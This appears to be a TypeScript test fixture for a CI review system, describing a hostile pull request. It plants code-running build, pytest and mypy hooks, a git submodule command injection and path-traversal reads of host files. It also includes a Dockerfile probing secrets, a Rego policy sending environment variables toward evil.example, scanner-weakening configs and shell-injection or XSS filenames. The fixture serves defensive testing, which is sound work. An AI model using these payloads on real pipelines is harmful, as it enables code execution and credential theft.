import { probe } from "./probe.ts";

/** The name of a file that a command of the attacker would leave on the machine. */
export const mark = "pwned";

/** Markup that runs a script where a page shows it as it is. */
export const markup = "<img src=x onerror=alert(1)>";

/** What a runner of GitHub Actions would obey. */
export const commands = {
  workflow: "::set-output name=verdict::passed",
  environment: "::add-path::/tmp/evil",
} as const;

/** A file of the machine that no container has, as a link or a path out of the checkout would name it. */
const outside = "/etc/machine-id";

/** The repository before the change: it passes its checks. */
export const base: Readonly<Record<string, string>> = {
  "slipway.yaml": `services:
  api: {path: api, lint: [ruff, black], types: [mypy], test: {secrets: [TEST_TOKEN]}}
scan: {rules: [rules]}
gates: {coverage: 80}
`,
  "api/pyproject.toml": `[project]
name = "api"
version = "1"
dependencies = []
[build-system]
requires = ["setuptools"]
build-backend = "setuptools.build_meta"
[tool.setuptools]
py-modules = ["api"]
[tool.black]
[tool.mypy]
[tool.pytest.ini_options]
`,
  "api/api.py": "def one() -> int:\n    return 1\n",
  "api/tests/test_api.py": "from api import one\n\n\ndef test_one() -> None:\n    assert one() == 1\n",
  "api/Dockerfile": "FROM python:3.13-slim\nCOPY api.py /\nUSER 1000\n",
  "deploy/kustomization.yaml": "resources: [config.yaml]\n",
  "deploy/config.yaml": "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: settings}\ndata: {a: b}\n",
  "chart/Chart.yaml": "apiVersion: v2\nname: chart\nversion: 1.0.0\n",
  "chart/values.yaml": "name: settings\n",
  "chart/templates/config.yaml":
    "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: {{ .Values.name }}}\ndata: {a: b}\n",
  "infra/main.tf": 'terraform {\n  required_version = ">= 1.6"\n}\n',
  "policy/names.rego": `package main

import rego.v1

deny contains msg if {
	input.metadata.name == "evil"
	msg := "no evil"
}
`,
  "rules/exec.yaml": `rules:
  - {id: no-exec, pattern: exec(...), message: no exec, languages: [python], severity: ERROR}
`,
};

const indented = (text: string) => text.replaceAll("\n", "\n    ");

/** The attacker's code, in every place where a tool or an interpreter might run it. */
const code = {
  "api/pyproject.toml": `${base["api/pyproject.toml"]}addopts = "-p evil_plugin"
`
    .replace("[tool.mypy]", '[tool.mypy]\nplugins = ["evil_mypy.py"]')
    .replace('build-backend = "setuptools.build_meta"', 'build-backend = "evil_build"\nbackend-path = ["."]'),
  "api/evil_build.py": `${probe("build")}\nfrom setuptools.build_meta import *\n`,
  "api/evil_plugin.py": probe("pytest-plugin"),
  "api/evil_mypy.py": `def plugin(version):\n    ${indented(probe("mypy-plugin"))}
    from mypy.plugin import Plugin
    return Plugin
`,
  "api/sitecustomize.py": probe("sitecustomize"),
  "api/usercustomize.py": probe("usercustomize"),
  "api/conftest.py": `import os
${probe("conftest")}
for left in ("leak.txt", "folder"):
    os.path.lexists("/reports/" + left) or os.symlink("/etc/machine-id", "/reports/" + left)
`,
  "api/black.py": `${probe("black")}\nraise SystemExit(0)\n`,
  "api/mypy.py": `${probe("mypy")}\nraise SystemExit(0)\n`,
  "api/ruff.py": `${probe("ruff")}\nraise SystemExit(0)\n`,
  "api/setup.py": `${probe("setup")}\nfrom setuptools import setup\n\nsetup()\n`,
  "api/tests/test_evil.py": `import pytest

from api import one


def test_probe() -> None:
    ${indented(probe("test"))}
    assert one() == 1


@pytest.mark.parametrize("name", ["${markup}", "\\n${commands.workflow}", "${"\\x1b]0;evil\\x07"}"])
def test_names(name: str) -> None:
    print("\\n${commands.environment}\\n${"\\x1b]0;evil\\x07"}")
    assert name == "\\n${commands.workflow}\\n${markup}"
`,
  ".pre-commit-config.yaml": `repos:
  - repo: local
    hooks: [{id: evil, name: evil, language: system, entry: "touch ${mark}", always_run: true}]
`,
  Makefile: `all test lint:\n\ttouch ${mark}\n`,
  "tox.ini": `[testenv]\ncommands = touch ${mark}\nallowlist_externals = touch\n`,
  ".gitattributes": `*.py filter=evil diff=evil\n`,
  ".gitmodules": `[submodule "evil"]\n\tpath = evil\n\turl = ext::sh -c touch% ${mark}\n`,
  ".checkov.yaml": "external-checks-dir: [checks]\nsoft-fail: true\n",
  "checks/__init__.py": probe("checkov"),
  "checks/evil.py": probe("checkov"),
  "infra/terraform.d/plugins/registry.opentofu.org/evil/evil/1.0.0/linux_amd64/terraform-provider-evil": `#!/bin/sh\ntouch /tmp/${mark}\n`,
};

/** What reads files of the machine, or asks others, when it is rendered or built. */
const readers = {
  "api/Dockerfile": `FROM python:3.13-slim
RUN --mount=type=secret,id=DEPLOY_TOKEN --mount=type=secret,id=TEST_TOKEN test -z "$(cat /run/secrets/* 2>/dev/null)"
RUN env | grep -ci token || true; test -z "$(env | grep -i token)"
RUN --mount=type=cache,id=slipway-uv,target=/stolen test -z "$(ls -A /stolen)"
COPY api.py /
USER 1000
`,
  "stolen/kustomization.yaml": `configMapGenerator:
  - {name: stolen, files: [../../../../../../../../../../../../..${outside}]}
`,
  "chart/templates/stolen.yaml": `apiVersion: v1
kind: ConfigMap
metadata: {name: stolen}
data:
  file: {{ .Files.Get "../../../../../../../..${outside}" | quote }}
  host: {{ getHostByName "evil.example" | quote }}
`,
  "policy/evil.rego": `package main

import rego.v1

warn contains msg if {
	some name, value in opa.runtime().env
	msg := sprintf("STOLEN %s %s", [name, value])
}

warn contains msg if {
	answer := http.send({"method": "get", "url": "http://evil.example", "raise_error": false})
	msg := sprintf("ANSWER %v", [answer])
}
`,
};

/** What lowers the policy by which the change is judged. */
const weaker = {
  "slipway.yaml": `services:
  api:
    path: api
    lint: [ruff]
    types: false
    test: {secrets: [TEST_TOKEN, DEPLOY_TOKEN]}
    image: {secrets: [DEPLOY_TOKEN]}
scan: {rules: false, secrets: false, skip: ["?*"]}
gates: {coverage: 0, severity: [UNKNOWN]}
waivers: [{rule: no-exec, path: api, reason: none, expires: 9999-12-31}]
tools: {trivy: "evil.example/trivy:1"}
`,
  ".trivyignore": "CVE-2020-0001\n",
  "trivy.yaml": "severity: [LOW]\nscan:\n  skip-dirs: [api]\n",
  ".gitleaks.toml": "[extend]\nuseDefault = true\n[allowlist]\npaths = ['.*']\n",
  ".gitleaksignore": "api/token.py:generic-api-key:1\n",
  ".semgrepignore": "*\n",
  "api/exec.py": "exec(input())  # nosemgrep\n",
  ".venv/evil.sh": "#!/bin/sh\ncd $1\n",
  "reports/evil.sh": "#!/bin/sh\ncd $1\n",
  "reports/summary.json": '{\n  "version": 1,\n  "outcome": "passed",\n  "checks": []\n}\n',
};

/** Names of files that a shell, a page or an option's parser would read as something else. */
const names = {
  [`api/$(touch ${mark}).py`]: "x = undefined_1\n",
  [`api/\`touch ${mark}\`.py`]: "x = undefined_2\n",
  [`api/;touch ${mark};.py`]: "x = undefined_3\n",
  [`api/${markup}.py`]: "x = undefined_4\n",
  "api/--config=evil.py": "x = undefined_5\n",
  "--output=evil.sh": `#!/bin/sh\ntouch ${mark}\n`,
  "api/\u202egnp.py": "x = undefined_6\n",
  [`api/new\n${commands.workflow}\nline.py`]: "x = undefined_7\n",
  "api/\u001b]0;evil\u0007.py": "x = undefined_8\n",
};

/** What the pull request adds to it, or writes in the place of a file. */
export const change: Readonly<Record<string, string>> = { ...code, ...readers, ...weaker, ...names };
